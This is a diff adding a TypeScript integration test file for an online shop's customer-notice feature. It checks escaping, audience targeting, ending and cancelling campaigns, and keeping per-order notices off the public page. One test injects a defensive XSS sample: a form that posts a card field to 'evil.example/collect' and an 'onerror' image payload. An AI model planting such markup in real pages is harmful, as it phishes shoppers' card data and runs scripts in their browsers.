@@ -1,0 +1,121 @@
+import { expect } from 'chai';
+import { makeShop, signedIn, type TestShop } from '../../fixtures/builders.ts';
+import { startServer, type TestServer } from '../../helpers/app.ts';
+import { TestClient } from '../../helpers/client.ts';
+import { oneDbKind } from '../../helpers/env.ts';
+import { noticeSamples } from '../../../server/domains/notices/notices.types.ts';
+import { campaignBody, campaignMails, campaignPath, createAndPublish, seedOrders, uniq, untilStatus } from './notices.helpers.ts';
+
+/** What a notice must never do: leak one customer's order to another or to the public page, run shop markup, reach every order, stay up for good, or promise what has passed. */
+for (const kind of oneDbKind()) {
+  describe(`[${kind}] notices: what a published notice may and may not say, and to whom`, function () {
+    this.timeout(60_000);
+    let server: TestServer;
+    let shop: TestShop;
+    let owner: TestClient;
+    let staff: TestClient;
+    const tag = uniq();
+    const activeIds = async () => ((await new TestClient(server.url).get(`/shops/${shop.id}/notices/active`)).body.notices as { id: string }[]).map((n) => n.id);
+
+    before(async () => {
+      server = await startServer(kind, { notices: { sweepMs: 1000, lockMs: 4000 } });
+      shop = await makeShop(server.database);
+      owner = await signedIn(server.url, shop.people.owner);
+      staff = await signedIn(server.url, shop.people.staff);
+      await seedOrders(server.database, shop.id, [
+        { orderNumber: `R${tag}-1`, email: `a-${tag}@example.jp`, prefecture: '北海道', postcode: '060-0001' },
+        { orderNumber: `R${tag}-2`, email: `b-${tag}@example.jp`, prefecture: '沖縄県', postcode: '900-0001' },
+        { orderNumber: `R${tag}-3`, email: `c-${tag}@example.jp`, prefecture: '大阪府', postcode: '530-0001' },
+      ]);
+    });
+    after(() => server?.close());
+
+    it('escapes markup a shop writes into its wording, on the public page and in the banner JSON', async () => {
+      const t = await staff.post(`/api/shops/${shop.id}/notice-templates`, { type: 'seasonal', name: `markup ${tag}` });
+      expect(t.status, t.text).to.equal(201);
+      const wording = t.body.wording;
+      wording.body.ja = `${wording.body.ja}\n<注意> <form action="https://evil.example/collect"><input name=card></form><img src=x onerror=alert(1)>`;
+      const v = await staff.post(`/api/shops/${shop.id}/notice-templates/${t.body.id}/versions`, { wording, baseVersion: 1 });
+      expect(v.status, v.text).to.equal(201);
+      const c = await createAndPublish(owner, shop.id, campaignBody({}, { templateVersionId: v.body.id, channels: { banner: true, mail: false, chat: false } }));
+      const page = await new TestClient(server.url).get(`/shops/${shop.id}/notices`);
+      expect(page.status).to.equal(200);
+      expect(page.text).not.to.match(/<form action="https:\/\/evil|<img src=x onerror/);
+      expect(page.text).to.include('&lt;注意&gt;');
+      const active = await new TestClient(server.url).get(`/shops/${shop.id}/notices/active`);
+      const n = active.body.notices.find((x: { id: string }) => x.id === c.id);
+      expect(n.ja.html).not.to.include('<img src=x').and.not.to.include('<form');
+      expect(n.ja.html).to.include('&lt;img src&#x3D;x onerror&#x3D;alert(1)&gt;');
+    });
+
+    it('reads postcode prefixes typed with full-width digits, 〒 or a hyphen as orders store them', async () => {
+      for (const p of ['０６０', '060-', '〒060']) {
+        const r = await owner.post(`/api/shops/${shop.id}/notice-audience`, { target: { postcodePrefixes: [p] } });
+        expect(r.status, `${p}: ${r.text}`).to.equal(200);
+        expect(r.body.orders, p).to.equal(1);
+      }
+    });
+
+    it('takes a pasted list of blank lines for no condition: a mail campaign to it is refused, never sent to every order', async () => {
+      const made = await owner.post(campaignPath(shop.id), campaignBody({ orderNumbers: ['  ', '', '　'] }));
+      expect(made.status, made.text).to.equal(201);
+      expect(made.body.target.orderNumbers).to.deep.equal([]);
+      const pub = await owner.post(`${campaignPath(shop.id, made.body.id)}/publish`, { version: made.body.version });
+      expect(pub.status, pub.text).to.equal(400);
+      expect(pub.body.error.details.map((d: { path: string }) => d.path)).to.include('target');
+      const one = await owner.post(`/api/shops/${shop.id}/notice-audience`, { target: { orderNumbers: ['', ` Ｒ${tag}－2 `] } });
+      expect(one.status, one.text).to.equal(200);
+      expect(one.body.orders).to.equal(1);
+    });
+
+    it('ends a published banner now, a banner-only (sent) one included: it leaves the banner JSON at once', async () => {
+      const c = await createAndPublish(owner, shop.id, campaignBody({}, { endsAt: null, channels: { banner: true, mail: false, chat: false } }));
+      expect(c.status).to.equal('sent');
+      expect(await activeIds()).to.include(c.id);
+      const stale = await owner.post(`${campaignPath(shop.id, c.id)}/end`, { version: c.version - 1 });
+      expect(stale.status).to.equal(409);
+      const ended = await owner.post(`${campaignPath(shop.id, c.id)}/end`, { version: c.version });
+      expect(ended.status, ended.text).to.equal(200);
+      expect(ended.body.status).to.equal('sent');
+      expect(Date.parse(ended.body.endsAt)).to.be.at.most(Date.now());
+      expect(await activeIds()).not.to.include(c.id);
+      const again = await owner.post(`${campaignPath(shop.id, c.id)}/end`, { version: ended.body.version });
+      expect(again.status, 'already ended').to.equal(409);
+      const draft = await owner.post(campaignPath(shop.id), campaignBody({}, { channels: { banner: true, mail: false, chat: false } }));
+      expect((await owner.post(`${campaignPath(shop.id, draft.body.id)}/end`, { version: draft.body.version })).status, 'a draft is not ended').to.equal(409);
+    });
+
+    it('ends a notice still sending: cancelled, its unsent recipients never mailed, its banner gone', async () => {
+      await server.database.db.execute((await import('drizzle-orm')).sql`update shops set notice_mails_per_minute = 1 where id = ${shop.id}`);
+      try {
+        const c = await createAndPublish(owner, shop.id, campaignBody({ orderNumbers: [`R${tag}-1`, `R${tag}-2`, `R${tag}-3`] }, { channels: { banner: true, mail: true, chat: false } }));
+        const now = await owner.get(campaignPath(shop.id, c.id));
+        const ended = await owner.post(`${campaignPath(shop.id, c.id)}/end`, { version: now.body.version });
+        expect(ended.status, ended.text).to.equal(200);
+        expect(ended.body.status).to.equal('cancelled');
+        expect(await activeIds()).not.to.include(c.id);
+      } finally {
+        await server.database.db.execute((await import('drizzle-orm')).sql`update shops set notice_mails_per_minute = 0 where id = ${shop.id}`);
+      }
+    });
+
+    it('never puts a per-order notice on the public page: no banner by default, a banner refused at channels.banner', async () => {
+      const vars = { ...noticeSamples.shipment_exception, last_scan_at: new Date(Date.now() - 86_400_000).toISOString(), old_expected_date: '2026-12-04', next_update_at: new Date(Date.now() + 86_400_000).toISOString() };
+      const made = await owner.post(campaignPath(shop.id), { name: `exc ${tag}`, type: 'shipment_exception', variables: vars, startsAt: new Date(Date.now() - 1000).toISOString(), target: { orderNumbers: [`R${tag}-1`] } });
+      expect(made.status, made.text).to.equal(201);
+      expect(made.body.channels).to.deep.equal({ banner: false, mail: true, chat: true });
+      for (const type of ['shop_delay', 'shipment_exception', 'returned_to_sender']) {
+        const r = await owner.post(campaignPath(shop.id), campaignBody({ orderNumbers: [`R${tag}-1`] }, { type, variables: {}, channels: { banner: true, mail: true, chat: false } }));
+        expect(r.status, type).to.equal(400);
+        expect(r.body.error.details.map((d: { path: string }) => d.path), type).to.include('channels.banner');
+      }
+      const banner = await owner.patch(campaignPath(shop.id, made.body.id), { version: made.body.version, channels: { banner: true, mail: true, chat: false } });
+      expect(banner.status).to.equal(400);
+      const pub = await owner.post(`${campaignPath(shop.id, made.body.id)}/publish`, { version: made.body.version });
+      expect(pub.status, pub.text).to.equal(200);
+      expect(await activeIds()).not.to.include(made.body.id);
+      const page = await new TestClient(server.url).get(`/shops/${shop.id}/notices`);
+      expect(page.text).not.to.include(`R${tag}-1`);
+    });
+  });
+}
